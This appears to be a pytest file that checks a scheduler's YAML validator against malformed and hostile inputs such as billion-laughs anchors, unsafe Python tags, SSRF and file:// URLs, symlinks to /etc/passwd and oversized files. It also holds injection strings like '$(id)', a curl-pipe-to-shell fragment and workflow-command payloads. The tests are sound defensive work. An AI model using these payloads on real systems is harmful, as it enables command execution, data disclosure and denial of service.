"""The corpus of bad inputs: what people, tools and attackers put into files, through the real command.

For each input: the exit code, one stable code at its file, line and column, one error for one fault, a
hint, no traceback, and the same bytes twice. Inputs that could end an interpreter run in a process of its
own, with little memory and two seconds of processor.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import resource
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from git_repository import commit_all, git
from miniature import Miniature, Outcome

from scheduler import desired
from scheduler.checkout import reading as workspace
from scheduler.desired import yaml_reader

NOW = "2026-01-01T00:00:00Z"
W, X, C, S = "waves/w.yaml", "waves/x.yaml", "channels/c.yaml", "scheduler.yaml"
MEMORY = 300 * 1024 * 1024
"""Bytes of address space that a process has for a hostile file."""
PROCESSOR = 2
"""Seconds of processor that it has."""
TOKEN_LIKE = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"

ENTRY = {
    "type": "staggered",
    "video": "v",
    "at": "2030-03-01T18:00:00Z",
    "delay": "1h",
    "channels": "[alpha, beta]",
}


def wave(*lines: str) -> str:
    """A wave of one entry: type, video, at, delay and channels on lines 2 to 6.

    `lines` replace or follow them; a key with nothing behind it takes the line of that key away.
    """
    own = {line.split(":")[0].strip(): line for line in lines}
    body = [own.pop(name, f"{name}: {value}") for name, value in ENTRY.items()]
    body = [line for line in (*body, *own.values()) if not line.endswith(":")]
    return "schedules:\n  - " + "\n    ".join(body) + "\n"


class Row(NamedTuple):
    """One input: its sentence, the files, and `place [code]` of what is wrong, if anything is."""

    sentence: str
    files: Mapping[str, str | bytes]
    places: tuple[str, ...] = ()


def each(sentence: str, texts: tuple[str, ...], files: Callable[[str], Any], *places: str) -> list[Row]:
    """One row for each of several texts of a kind."""
    return [Row(f"{sentence}: {ascii(text)[1:-1][:40]}", files(text), places) for text in texts]


def in_wave(key: str) -> Callable[[str], dict[str, str]]:
    return lambda text: {W: wave(f"{key}: {text}")}


SCALARS = [
    Row(
        "words that YAML 1.1 takes for truth values are texts",
        {W: wave("metadata: {country: NO, on: off, y: n}")},
    ),
    Row(
        "a version such as 1.10 and a hash such as 1e5 are texts", {W: wave("metadata: {v: 1.10, sha: 1e5}")}
    ),
    Row("a key twice", {W: wave() + "title: a\ntitle: b\n"}, ("waves/w.yaml:8:1 [duplicate-key]",)),
    Row(
        "a key twice in braces", {W: wave('metadata: {"a":1,"a":2}')}, ("waves/w.yaml:7:22 [duplicate-key]",)
    ),
    Row("nothing as a key", {W: wave("metadata: {~: x}")}, ("waves/w.yaml:7:16 [yaml-syntax]",)),
    Row("a list as a key", {W: wave() + "? [a]\n: b\n"}, ("waves/w.yaml:7:3 [yaml-syntax]",)),
    *each(
        "no duration",
        ("0777", "0o17", "0x1F", "0b11", "1_000", "+1", "-1", "1e9", "3600.5", '"3600"', "true", "9" * 900),
        in_wave("delay"),
        "waves/w.yaml:5:12 [invalid-value]",
    ),
    *each(
        "no whole number",
        ("0777", "0o17", "0x1F", "0b11", "1_000", "+1", ".nan", ".inf", "-.inf", "1e400", "9" * 5_000),
        lambda text: {S: f"brake: {{at_least: {text}}}\n"},
        "scheduler.yaml:1:19 [invalid-value]",
    ),
    *each(
        "no time",
        (
            "12:30:00",
            "2030-02-30T18:00:00Z",
            "2031-02-29T18:00:00Z",
            "2030-03-01T24:00:00Z",
            "2030-03-01T18:00:60Z",
            "2030-3-1",
            "2030-W09-7",
            "２０３０-03-01T18:00:00Z",
            "2030-03-01T18:00:00.1234567Z",
            "1900-01-01T00:00:00Z",
            "9999-12-31T23:59:59Z",
            "1893456000",
        ),
        in_wave("at"),
        "waves/w.yaml:4:9 [invalid-value]",
    ),
    Row("the 29th of February in a leap year is a day", {W: wave("at: 2032-02-29T18:00:00Z")}),
    *each(
        "a clock change",
        ("2030-03-31T02:30", "2030-10-27T02:30"),
        lambda text: {W: wave(f"at: {text}", "timezone: Europe/Berlin")},
        "waves/w.yaml:4:9 [invalid-value]",
    ),
    Row(
        "a day that Samoa skipped",
        {W: wave("at: 2011-12-30T12:00", "timezone: Pacific/Apia")},
        ("waves/w.yaml:4:9 [invalid-value]",),
    ),
]

SIGNS = [
    *each(
        "a tag",
        (
            "!!python/object/apply:os.system [id]",
            "!!python/tuple [a]",
            "!foo {a: b}",
            "!!binary aGk=",
            "!!set {a}",
            "!!str 1",
        ),
        in_wave("metadata"),
        "waves/w.yaml:7:15 [yaml-syntax]",
    ),
    Row(
        "a billion laughs",
        {
            W: "a: &a [x,x]\n"
            + "".join(f"{b}: &{b} [*{a},*{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        },
        ("waves/w.yaml:1:4 [yaml-syntax]",),
    ),
    Row("an anchor that holds itself", {W: "&a [*a]\n"}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row("an alias of nothing", {W: wave("video: *undefined")}, ("waves/w.yaml:3:12 [yaml-syntax]",)),
    Row("an anchor that nobody uses", {W: wave("video: &unused v")}, ("waves/w.yaml:3:12 [yaml-syntax]",)),
    Row("two documents", {W: wave() + "---\n" + wave()}, ("waves/w.yaml:7:1 [yaml-syntax]",)),
    Row("text after the end", {W: wave() + "...\nfoo: bar\n"}, ("waves/w.yaml:8:1 [yaml-syntax]",)),
    Row("a version of YAML", {W: "%YAML 9.9\n---\n" + wave()}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row("a tag of one's own", {W: "%TAG ! tag:x:\n---\n" + wave()}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row(
        "a merge conflict",
        {W: "<<<<<<< HEAD\ntitle: a\n=======\ntitle: b\n>>>>>>> x\n" + wave()},
        ("waves/w.yaml:1:1 [yaml-syntax]",),
    ),
    Row("a tab before a line", {W: "schedules:\n\t- type: staggered\n"}, ("waves/w.yaml:2:1 [yaml-syntax]",)),
    Row(
        "a pointer of Git LFS",
        {W: "version https://git-lfs.github.com/spec/v1\noid sha256:a\nsize 1\n"},
        ("waves/w.yaml:1:1 [yaml-syntax]",),
    ),
]

CHARACTERS = [
    Row("a NUL in a value", {W: wave("video: a\0b")}, ("waves/w.yaml:3:12 [invalid-value]",)),
    Row("a NUL in a comment", {W: wave() + "# a\0b\n"}, ("waves/w.yaml:7:4 [yaml-syntax]",)),
    Row("an escaped NUL", {W: wave('video: "a\\0b"')}, ("waves/w.yaml:3:12 [invalid-value]",)),
    Row("half of a surrogate pair", {W: wave('video: "\\ud800"')}, ("waves/w.yaml:3:15 [yaml-syntax]",)),
    Row("Latin-1", {W: wave("video: é").encode("latin-1")}, ("waves/w.yaml:3:12 [yaml-syntax]",)),
    Row("UTF-16", {W: wave().encode("utf-16")}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row("UTF-32", {W: wave().encode("utf-32")}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row("a byte order mark changes nothing", {W: "\ufeff" + wave()}),
    Row("line ends of Windows change nothing", {W: wave().replace("\n", "\r\n")}),
    Row("line ends of old Macs change nothing", {W: wave().replace("\n", "\r")}),
    *each(
        "an id with something unseen",
        ("a\u202eb", "a\u200bb", "a\U000e0041b", "p\u0430ypal"),
        in_wave("group"),
        "waves/w.yaml:7:12 [invalid-value]",
    ),
    Row(
        "a channel spelt with another alphabet",
        {W: wave("channels: [alph\u0430]")},
        ("waves/w.yaml:6:16 [invalid-value]",),
    ),
    Row(
        "a file named with another alphabet",
        {"channels/p\u0430ypal.yaml": "repository: a/b\n"},
        ("channels/p\u0430ypal.yaml:1:1 [invalid-value]",),
    ),
    Row(
        "a title that is shown backwards",
        {W: "title: a\u202eb\n" + wave()},
        ("waves/w.yaml:1:8 [invalid-value]",),
    ),
    # A joiner belongs to scripts and emoji: it stays in texts, and every output escapes what a screen obeys.
    Row("a title with a joiner is a title", {W: "title: 👩\u200d👧 a\u200bb\n" + wave()}),
]

SHAPES = [
    *each(
        "a file that says nothing",
        ("", "# x\n", "~\n", "---\n"),
        lambda text: {W: text},
        "waves/w.yaml:1:1 [missing-key]",
    ),
    Row("an empty channel", {C: ""}, ("channels/c.yaml:1:1 [missing-key]",)),
    Row("empty settings", {S: ""}, ("scheduler.yaml:1:1 [missing-key]",)),
    *each(
        "no mapping", ("- a\n", "hello\n", "17\n"), lambda text: {W: text}, "waves/w.yaml:1:1 [invalid-value]"
    ),
    Row("a key that is not known", {W: wave("delay_second: 3600")}, ("waves/w.yaml:7:5 [unknown-key]",)),
    Row("a key that was meant", {W: wave("delay:", "delay_second: 1h")}, ("waves/w.yaml:6:5 [unknown-key]",)),
    # There are no templates, so nothing can go round in circles but renames.
    Row("a template", {W: wave("template: w")}, ("waves/w.yaml:7:5 [unknown-key]",)),
    Row(
        "renames in a circle",
        {W: "renamed_from: x\n" + wave(), X: "renamed_from: w\n" + wave("at: 2030-04-01T18:00:00Z")},
        ("waves/w.yaml:1:15 [duplicate-id]", "waves/x.yaml:1:15 [duplicate-id]"),
    ),
    Row("renamed from itself", {W: "renamed_from: w\n" + wave()}, ("waves/w.yaml:1:15 [duplicate-id]",)),
    Row("two endings of one name", {"waves/w.yml": wave(), W: wave()}, ("waves/w.yml:1:1 [duplicate-id]",)),
    Row(
        "two names but for their case",
        {"waves/W.yaml": wave(), W: wave()},
        ("waves/w.yaml:1:1 [duplicate-id]",),
    ),
    Row(
        "one name in two folders",
        {"waves/2030/w.yaml": wave(), W: wave()},
        ("waves/w.yaml:1:1 [duplicate-id]",),
    ),
]

RULES = [
    Row("a new schedule in the past", {W: wave("at: 2020-03-01T18:00:00Z")}, ("waves/w.yaml:4:9 [past]",)),
    Row(
        "two publications 59 seconds apart",
        {W: wave(), X: wave("video: x", "at: 2030-03-01T18:00:59Z", "channels: [alpha]")},
        ("waves/x.yaml:6:16 [min-gap]",),
    ),
    Row(
        "one video twice",
        {W: wave("channels: [alpha]"), X: wave("at: 2030-03-01T20:00:00Z", "channels: [alpha]")},
        ("waves/x.yaml:6:16 [repeat-video]",),
    ),
    Row(
        "a channel that is not there",
        {W: wave("channels: [alpha, gamma]")},
        ("waves/w.yaml:6:23 [unknown-channel]",),
    ),
    *each(
        "nothing in a list of channels is one error",
        ("[alpha, null]", "[alpha, ~]", "[alpha, Null]"),
        in_wave("channels"),
        "waves/w.yaml:6:23 [missing-key]",
    ),
    Row(
        "a repository of somebody else",
        {S: "allow: [acme/*]\n", C: "repository: evil/c\n"},
        ("channels/c.yaml:1:13 [not-allowed]",),
    ),
    *each(
        "no repository",
        (
            "https://evil.example/a/b",
            "https://api.github.com@evil/a/b",
            "//x/y",
            "file:///a/b",
            "a/..",
            "../a",
            "http://169.254.169.254/x",
        ),
        lambda text: {C: f"repository: {text}\n"},
        "channels/c.yaml:1:13 [invalid-value]",
    ),
    # The API's address is the operator's, so no file has a key for it.
    Row(
        "an address of the API", {S: "api: http://169.254.169.254/\n"}, ("scheduler.yaml:1:1 [unknown-key]",)
    ),
    Row(
        "an address of a channel",
        {C: "repository: a/b\nbase_url: file:///etc/passwd\n"},
        ("channels/c.yaml:2:1 [unknown-key]",),
    ),
    # The payload has ten keys whatever the metadata holds, and the metadata cannot reach them.
    Row("metadata of eleven keys", {W: wave("metadata: {" + ", ".join(f"k{i}: v" for i in range(11)) + "}")}),
    Row(
        "metadata named as the payload's keys", {W: wave("metadata: {key: gs1-x, v: 2, schedule_id: other}")}
    ),
    Row(
        "metadata that GitHub would refuse",
        {W: wave("metadata: {k: " + "x" * 65_536 + "}")},
        ("waves/w.yaml:7:5 [invalid-value]",),
    ),
    Row(
        "metadata nested deeply",
        {W: wave("metadata: {k: " + "[" * 40 + "]" * 40 + "}")},
        ("waves/w.yaml:7:47 [yaml-syntax]",),
    ),
    # A video id is opaque text: it travels as JSON, and no shell, expression or log ever reads it.
    *each(
        "a video that would be run elsewhere",
        ("$(id)", "'\";curl x|sh;\"'", "'${{ secrets.X }}'", '"%0A::set-env name=X::y"', '"::error::x"'),
        lambda text: {W: wave(f"video: {text}", "group: g")},
    ),
    Row(
        "a token in the place of its name",
        {C: f"repository: a/b\ntoken: {TOKEN_LIKE}\n"},
        ("channels/c.yaml:2:8 [invalid-value]",),
    ),
    Row(
        "a token in metadata",
        {W: wave(f"metadata: {{k: {TOKEN_LIKE}}}")},
        ("waves/w.yaml:7:15 [invalid-value]",),
    ),
]

ROWS = [*SCALARS, *SIGNS, *CHARACTERS, *SHAPES, *RULES]


def put(mini: Miniature, files: Mapping[str, str | bytes]) -> Miniature:
    """Write files byte by byte, beside the channels alpha and beta."""
    mini.channels("alpha", "beta")
    for name, content in files.items():
        path = mini.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return mini


def same_twice(mini: Miniature, *command: str) -> Outcome:
    """What a command came to, which is the same the second time, and no traceback."""
    first, second = mini.run(*command, now=NOW), mini.run(*command, now=NOW)
    assert first == second
    assert "Traceback" not in first.out + first.err
    return first


@pytest.mark.usefixtures("still_clock")
@pytest.mark.parametrize("row", [pytest.param(row, id=row.sentence) for row in ROWS])
def test_a_bad_input_is_one_error_at_its_place_with_a_hint(mini: Miniature, row: Row) -> None:
    put(mini, row.files)
    told = same_twice(mini, "validate", "--format", "json")
    assert (told.code, told.places) == (1 if row.places else 0, list(row.places))
    assert all(fault["hint"] or "did you mean" in fault["message"] for fault in told.json["diagnostics"])
    assert TOKEN_LIKE not in told.out
    text = same_twice(mini, "validate")
    assert text.code == told.code
    assert TOKEN_LIKE not in text.out
    assert all(
        place.replace(" [", ": error: ", 1).split(" [")[0].split(": error")[0] in text.out
        for place in row.places
    )
    assert same_twice(mini, "plan").code == told.code


def test_each_sentence_stands_for_one_input() -> None:
    assert len({row.sentence for row in ROWS}) == len(ROWS)


def test_texts_that_look_like_something_else_arrive_as_they_were_typed(mini: Miniature) -> None:
    metadata = "{country: NO, on: off, v: 1.10, sha: 1e5, time: 12:30:00, n: 0777, key: own, void: ~}"
    put(mini, {W: wave(f"metadata: {metadata}")})
    first = mini.json("plan", now=NOW).json["changes"][0]
    assert first["after"]["metadata"] == {
        "country": "NO",
        "on": "off",
        "v": "1.10",
        "sha": "1e5",
        "time": "12:30:00",
        "n": "0777",
        "key": "own",
        "void": "~",
    }


def test_what_is_recorded_may_lie_in_the_past_without_an_error(mini: Miniature) -> None:
    put(mini, {W: wave()})
    mini.run("state", "init", now=NOW)
    mini.run("run", now=NOW)
    assert mini.json("validate", now="2030-03-01T18:30:00Z").codes == []


@pytest.mark.parametrize(
    "address", ["http://169.254.169.254/", "https://api.github.com@evil", "file:///etc", "//x", "https://a b"]
)
def test_an_address_of_the_api_that_is_none_is_wrong_usage(mini: Miniature, address: str) -> None:
    put(mini, {W: wave()})
    mini.run("state", "init", now=NOW)
    told = mini.run("run", now=NOW, GITHUB_API_URL=address)
    assert told.code == 2
    assert "Traceback" not in told.err


# --- what could end an interpreter ------------------------------------------------------------------

HOSTILE = [
    Row("200,000 brackets", {W: "[" * 200_000}, ("waves/w.yaml:1:33 [yaml-syntax]",)),
    Row("200,000 braces", {W: "{a: " * 200_000}, ("waves/w.yaml:1:129 [yaml-syntax]",)),
    Row(
        "20,000 brackets in a value",
        {W: wave("video: " + "[" * 20_000)},
        ("waves/w.yaml:3:41 [yaml-syntax]",),
    ),
    Row("a million dashes", {W: "- " * 500_000}, ("waves/w.yaml:1:65 [yaml-syntax]",)),
    Row(
        "1,400 mappings in one another",
        {W: "".join(f"{' ' * n}a:\n" for n in range(1_400))},
        ("waves/w.yaml:33:33 [yaml-syntax]",),
    ),
    Row(
        "a value of two megabytes",
        {W: wave("video: " + "x" * 2_000_000)},
        ("waves/w.yaml:1:1 [yaml-syntax]",),
    ),
    Row("a million entries", {W: "- a\n" * 1_000_001}, ("waves/w.yaml:1:1 [yaml-syntax]",)),
    Row(
        "a number of a million digits",
        {S: "retry: {attempts: " + "9" * 1_000_000 + "}\n"},
        ("scheduler.yaml:1:19 [invalid-value]",),
    ),
    Row(
        "a hexadecimal number of 200,000 digits",
        {S: "retry: {attempts: 0x" + "f" * 200_000 + "}\n"},
        ("scheduler.yaml:1:19 [invalid-value]",),
    ),
    Row(
        "60,000 directives",
        {W: "".join(f"%TAG !{n}! x\n" for n in range(60_000))},
        ("waves/w.yaml:1:1 [yaml-syntax]",),
    ),
    Row("a key of a megabyte", {W: "k" * 1_000_000 + ": 1\n"}, ("waves/w.yaml:1:1000001 [yaml-syntax]",)),
    Row("a quote that never ends", {W: "a: '" + "''\n" * 300_000}, ("waves/w.yaml:1:4 [yaml-syntax]",)),
    Row(
        "a thousand and one freezes",
        {S: "freezes:\n" + "- {}\n" * 1_001},
        ("scheduler.yaml:2:1 [invalid-value]",),
    ),
    Row(
        "20,000 slots",
        {C: "slots:\n" + "".join(f"- '*:{n % 60}'\n" for n in range(20_000)) + "queue: q\n"},
        ("channels/c.yaml:2:1 [invalid-value]",),
    ),
    Row(
        "20,000 patterns",
        {S: "allow:\n" + "".join(f"- a{n}/*\n" for n in range(20_000))},
        ("scheduler.yaml:2:1 [invalid-value]",),
    ),
]


def bounded(mini: Miniature, *command: str, **more: Any) -> Outcome:
    """Run a command in a process of its own with little memory and little time."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
        resource.setrlimit(resource.RLIMIT_CPU, (PROCESSOR, PROCESSOR))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))

    process = subprocess.run(
        [sys.executable, "-m", "scheduler", "-C", str(mini.root), "--now", NOW, *command],
        env=mini.environ | {"PYTHONPATH": str(Path(workspace.__file__).parent.parent)},
        preexec_fn=limit,
        capture_output=True,
        text=True,
        check=False,
        **more,
    )
    return Outcome(process.returncode, process.stdout, process.stderr)


@pytest.mark.parametrize("row", [pytest.param(row, id=row.sentence) for row in HOSTILE])
def test_a_hostile_file_is_told_within_little_memory_and_time(mini: Miniature, row: Row) -> None:
    told = bounded(put(mini, row.files), "validate", "--format", "json")
    assert (told.code, told.err) == (1, "")
    assert told.places == list(row.places)
    assert told == bounded(mini, "validate", "--format", "json")


STATES = [
    ("an empty state", b""),
    ("null", b"null\n"),
    ("a list", b"[]\n"),
    ("a mapping of nothing", b"{}\n"),
    ("a merge conflict", b"<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> x\n"),
    ("100,000 brackets", b"[" * 100_000),
    ("100,000 mappings", b'{"a":' * 100_000),
    ("a byte order mark", b"\xef\xbb\xbf{}"),
    ("a comma too many", b'{"version": 2,}'),
    ("two documents", b'{"version": 2}{"version": 2}'),
    ("UTF-16", '{"version": 2}'.encode("utf-16")),
    ("NaN", b'{"version": 2, "lineage": "x", "serial": NaN, "schedules": {}}'),
    ("a key twice", b'{"version": 2, "lineage": "x", "serial": 1, "serial": 2, "schedules": {}}'),
    ("a version to come", b'{"version": 99, "lineage": "x", "serial": 1, "schedules": {}}'),
    (
        "a number without end",
        b'{"version": 2, "lineage": "x", "serial": ' + b"9" * 100_000 + b', "schedules": {}}',
    ),
    ("a record that is none", b'{"version": 2, "lineage": "x", "serial": 1, "schedules": {"a": null}}'),
]


@pytest.mark.parametrize("content", [pytest.param(row[1], id=row[0]) for row in STATES])
def test_a_bad_state_is_broken_machinery_and_stays_as_it_was(mini: Miniature, content: bytes) -> None:
    put(mini, {W: wave(), "state.json": content})
    for command in ("validate", "plan", "run", "list"):
        told = bounded(mini, command)
        assert told.code == 3, command
        assert told.err.startswith("error: ")
        assert "Traceback" not in told.err
    assert (mini.root / "state.json").read_bytes() == content


# --- files that are none ----------------------------------------------------------------------------


def _link(path: Path) -> None:
    path.symlink_to("/etc/passwd")


def _loop(path: Path) -> None:
    path.symlink_to(path.name)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path) -> None:
    os.mknod(path, stat.S_IFSOCK | 0o644)


def _device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero, which never ends
    except PermissionError:
        pytest.skip("only root can make a device")


def _submodule(path: Path) -> None:
    path.mkdir()
    (path / ".git").write_text("gitdir: ../../.git/modules/theirs\n")
    (path / "theirs.yaml").write_text(wave())


FILES = [
    ("a link to a secret", _link, "is a symbolic link, and links are not followed"),
    ("a link to itself", _loop, "is a symbolic link, and links are not followed"),
    ("a pipe", _fifo, "is not a regular file"),
    ("a socket", _socket, "cannot be read: No such device or address"),
    ("a device without an end", _device, "is not a regular file"),
    ("a submodule", _submodule, "is a submodule, and submodules are not read"),
]


@pytest.mark.parametrize("name", [W, C])
@pytest.mark.parametrize(("make", "words"), [pytest.param(*row[1:], id=row[0]) for row in FILES])
def test_what_is_no_plain_file_is_a_fault_and_is_never_read(
    mini: Miniature, name: str, make: Callable[[Path], None], words: str
) -> None:
    put(mini, {X: wave()})
    make(mini.root / name)
    told = bounded(mini, "validate", "--format", "json", timeout=30)
    assert told.places == [f"{name}:1:1 [yaml-syntax]"]
    assert told.json["diagnostics"][0]["message"] == f"{name} {words}"
    assert "root:" not in told.out


def test_a_folder_that_is_named_like_a_file_is_a_folder(mini: Miniature) -> None:
    put(mini, {"waves/2030.yaml/w.yaml": wave()})
    assert same_twice(mini, "validate", "--format", "json").places == []
    assert len(mini.json("plan", now=NOW).actions) == 2


def test_settings_that_are_a_folder_are_a_fault(mini: Miniature) -> None:
    put(mini, {W: wave()})
    (mini.root / S).mkdir()
    assert same_twice(mini, "validate", "--format", "json").places == ["scheduler.yaml:1:1 [yaml-syntax]"]


@contextlib.contextmanager
def as_nobody(root: Path) -> Iterator[None]:
    """As a user whom modes hold back; root is told everything."""
    if os.geteuid() != 0:
        yield
        return
    for folder in (root, *root.parents[:-2]):
        folder.chmod(folder.stat().st_mode | 0o055)
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)


@pytest.mark.parametrize("name", [W, "waves", C, S])
def test_what_may_not_be_read_is_a_fault(mini: Miniature, name: str) -> None:
    put(mini, {W: wave(), C: "repository: a/b\n", S: "pace: 60/min\n"})
    assert same_twice(mini, "validate").code == 0
    (mini.root / name).chmod(0)
    try:
        with as_nobody(mini.root):
            told = same_twice(mini, "validate", "--format", "json")
    finally:
        (mini.root / name).chmod(0o755)
    assert told.code == 1
    (fault,) = told.json["diagnostics"]
    assert (fault["code"], fault["message"]) == ("yaml-syntax", f"{name} cannot be read: Permission denied")


def test_a_submodule_that_nobody_fetched_is_no_folder_without_waves(
    mini: Miniature, tmp_path_factory: pytest.TempPathFactory
) -> None:
    theirs = Miniature(tmp_path_factory.mktemp("theirs"))
    put(theirs, {W: wave()})
    git(theirs.root, "init", "-q", "-b", "main")
    commit = commit_all(theirs.root, "theirs")
    put(mini, {X: wave()})
    git(mini.root, "init", "-q", "-b", "main")
    git(mini.root, "update-index", "--add", "--cacheinfo", f"160000,{commit},waves/theirs")
    (mini.root / "waves/theirs").mkdir()
    told = same_twice(mini, "validate", "--format", "json")
    assert told.places == ["waves/theirs:1:1 [yaml-syntax]"]
    assert "is a submodule" in told.out


def test_an_empty_folder_is_nothing(mini: Miniature) -> None:
    put(mini, {W: wave()})
    (mini.root / "waves/2031").mkdir()
    assert same_twice(mini, "validate", "--format", "json").places == []


def test_a_file_of_100_megabytes_is_not_read_whole(mini: Miniature) -> None:
    put(mini, {X: wave()})
    with (mini.root / W).open("wb") as file:
        file.truncate(100 * 1024 * 1024)
    told = bounded(mini, "validate", "--format", "json")
    assert (told.code, told.places) == (1, ["waves/w.yaml:1:1 [yaml-syntax]"])


def test_ten_thousand_files_are_each_told_once(mini: Miniature) -> None:
    put(mini, {})
    for number in range(10_000):
        (mini.root / f"waves/w{number}.yaml").touch()
    told = mini.json("validate", now=NOW)
    assert told.code == 1
    assert len(set(told.places)) == 10_000
    assert set(told.codes) == {"missing-key"}


def test_a_file_that_goes_while_the_folder_is_read_is_a_fault_and_not_withdrawn(
    mini: Miniature, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(mini, {W: wave(), X: wave("video: x", "at: 2030-04-01T18:00:00Z")})
    mini.run("state", "init", now=NOW)
    mini.run("run", now=NOW)
    opening = os.open

    def gone(path: str, *arguments: Any, **more: Any) -> int:
        if str(path).endswith(W):
            Path(path).unlink(missing_ok=True)
        return opening(path, *arguments, **more)

    monkeypatch.setattr(workspace.os, "open", gone)
    told = mini.json("plan", now=NOW)
    assert (told.code, told.actions) == (1, [])
    assert told.places == ["waves/w.yaml:1:1 [yaml-syntax]"]
    assert "cannot be read: No such file or directory" in told.out


@pytest.mark.parametrize("size", [10, 1_000_000, 3_000_000])
def test_a_file_that_changes_while_it_is_read_is_read_to_its_end_or_to_the_limit(
    mini: Miniature, monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    put(mini, {W: wave()})
    reading, grown = os.read, []

    def growing(handle: int, count: int) -> bytes:
        content = reading(handle, count)
        if b"staggered" in content and not grown:
            with (mini.root / W).open("ab") as file:
                file.write(b"#" * size)
            grown.append(True)
        return content

    monkeypatch.setattr(workspace.os, "read", growing)
    (source,) = [found for found in workspace.read_sources(mini.root) if found.file == W]
    assert grown
    assert len(source.content) <= 2 * workspace.LARGEST
    assert source.content.startswith(wave().encode())


# --- naughty strings --------------------------------------------------------------------------------

NAUGHTY: list[str] = json.loads((Path(__file__).parents[1] / "corpora/naughty-strings.json").read_text())
BATCH = 130
FORMULA = re.compile(r"[=+\-@\t\r]")
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2060-\u2069\ufeff]")
"""What a terminal obeys or hides, but for the end of a line."""


def quoted(text: str) -> str:
    """A text as YAML in double quotes; lone surrogates, which UTF-8 cannot hold, as escapes."""
    return json.dumps(text, ensure_ascii=not text.isprintable())


def in_texts(number: int, text: str) -> dict[str, str]:
    """A wave, and a channel with a one-off, that hold a text in every field for free text."""
    words, hour = (
        quoted(text),
        f"2030-{number % 12 + 1:02}-{number // 12 % 28 + 1:02}T{number // 336:02}:00:00Z",
    )
    return {
        f"waves/n{number}.yaml": f"""
            title: {words}
            paused: {{ reason: {words} }}
            schedules:
              - type: simultaneous
                group: g
                repeat: true
                video: {words}
                at: {hour}
                channels: [{{ id: alpha, paused: {{ reason: {words} }} }}]
                metadata: {{ ? {words} : [{words}, {{ k: {words} }}] }}
            """,
        f"channels/n{number}.yaml": f"""
            name: {words}
            repository: acme/n{number}
            paused: {{ reason: {words} }}
            schedules:
              - {{ video: {words}, at: {hour}, metadata: {{ k: {words} }} }}
            """,
    }


def in_names(number: int, text: str) -> dict[str, str]:
    """A wave, a channel that hold a text wherever only names and other strict forms may stand."""
    words = quoted(text)
    return {
        f"waves/n{number}.yaml": f"""
            on_failure: {words}
            catch_up: {words}
            renamed_from: {words}
            schedules:
              - {{ type: {words}, video: v, group: {words}, at: {words}, channels: [{words}] }}
              - {{ type: staggered, video: v, at: {words}, delay: {words}, channels: {{ tags: [{words}] }} }}
            """,
        f"channels/n{number}.yaml": f"""
            repository: {words}
            event_type: {words}
            token: {words}
            timezone: {words}
            lead: {words}
            tags: [{words}]
            slots: [{words}]
            lineup: [{{ video: v, not_before: {words} }}]
            """,
    }


def assert_shown_safely(form: str, told: Outcome) -> None:
    """Nobody's text is obeyed: by a terminal, a spreadsheet, a page, or the log of a workflow."""
    assert told.code in (0, 1)
    assert "Traceback" not in told.err
    assert OBEYED.search(told.out.replace("\r\n", "\n") + told.err) is None
    lines = told.out.splitlines()
    if form in ("json", "sarif"):
        json.loads(told.out)
    elif form == "csv":
        cells = [cell for row in csv.reader(io.StringIO(told.out)) for cell in row]
        assert not any(FORMULA.match(cell) for cell in cells)
    elif form == "markdown":
        assert (
            re.search(r"<(?:script|img|svg|iframe|a|marquee|video|body|input)\\b", told.out, re.IGNORECASE)
            is None
        )
        assert "](" not in told.out
    else:
        assert all(re.match(r"::(?:error|warning|notice) ", line) for line in lines if line.startswith("::"))


BATCHES = [NAUGHTY[start : start + BATCH] for start in range(0, len(NAUGHTY), BATCH)]
FORMS = [
    *(("validate", form) for form in ("text", "json", "github", "sarif")),
    *(("plan", form) for form in ("text", "json", "markdown")),
    *(("list", form) for form in ("table", "json", "csv")),
]


@pytest.mark.parametrize("fields", [in_texts, in_names])
@pytest.mark.parametrize("batch", range(len(BATCHES)))
def test_a_naughty_string_in_any_field_harms_no_output(
    mini: Miniature, batch: int, fields: Callable[[int, str], dict[str, str]]
) -> None:
    mini.channels("alpha")
    for number, text in enumerate(BATCHES[batch]):
        mini.write(fields(number, text))
    for command, form in FORMS:
        assert_shown_safely(form, mini.run(command, "--format", form, now=NOW))


def freezes(*reasons: str) -> str:
    spans = "from: 2030-02-01T00:00Z, until: 2030-04-01T00:00Z"
    return "freezes:\n" + "".join(f"  - {{ reason: {quoted(reason)}, {spans} }}\n" for reason in reasons)


def is_reason(text: str) -> bool:
    """Whether a text may be the reason of a freeze."""
    return desired.read_settings(yaml_reader.read(S, freezes(text).encode()))[0] is not None


@pytest.mark.parametrize("batch", range(len(BATCHES)))
def test_a_naughty_string_in_the_settings_harms_no_output(mini: Miniature, batch: int) -> None:
    put(mini, {W: wave(), S: freezes(*filter(is_reason, BATCHES[batch]))})
    for command, form in FORMS:
        told = mini.run(command, "--format", form, now=NOW)
        assert_shown_safely(form, told)
        assert "error" not in told.err
    wrong = "".join(f"  - {quoted(text)}\n" for text in BATCHES[batch])
    mini.write({S: f"allow:\n{wrong}notify:\n{wrong}"})
    for form in ("text", "json", "github", "sarif"):
        assert_shown_safely(form, mini.run("validate", "--format", form, now=NOW))


def test_most_naughty_strings_are_fine_as_texts(mini: Miniature) -> None:
    mini.channels("alpha")
    for number, text in enumerate(NAUGHTY):
        mini.write(in_texts(number, text))
    refused = {place.split(":")[0] for place in mini.json("validate", now=NOW).places}
    assert len(refused) < 150
